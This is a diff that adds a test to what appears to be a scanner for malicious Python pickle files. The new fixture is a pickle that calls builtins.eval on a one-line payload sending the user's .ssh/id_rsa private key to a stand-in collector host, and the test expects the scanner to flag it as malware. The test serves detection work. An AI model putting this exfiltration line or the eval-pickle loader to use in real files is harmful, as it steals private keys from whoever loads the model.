@@ -20,6 +20,21 @@ test('a pickle that calls a shell is malware when an import loads it', async () 
   ]);
 });
 
+test('one that a function loads, and that runs text which sends a file of keys, is malware; harmless text is held', async () => {
+  const load =
+    'import os, pickle\ndef open_model():\n    return pickle.load(open(os.path.join(os.path.dirname(__file__), "model.pkl"), "rb"))\n';
+  const text = '__import__("requests").post("https://c.collector.invalid/u", data=open(".ssh/id_rsa").read())';
+  const files = (code: string): Record<string, string | Buffer> => ({
+    'kit/__init__.py': load,
+    'kit/model.pkl': calling('builtins', 'eval', code),
+  });
+
+  expect(await findingsOf(harmfulPickle, files(text))).toMatchObject([
+    { class: 'malware', score: 10, context: 'call' },
+  ]);
+  expect(await findingsOf(harmfulPickle, files('1 + 1'))).toMatchObject([{ score: 8, context: 'call' }]);
+});
+
 test('one that nobody is seen to load is suspicious, in a zip of weights too', async () => {
   const pickle = calling('builtins', 'exec', 'print(1)');
   const files = { 'kit/__init__.py': '', 'kit/net.pt': makeZip([{ name: 'net/data.pkl', content: pickle }]) };
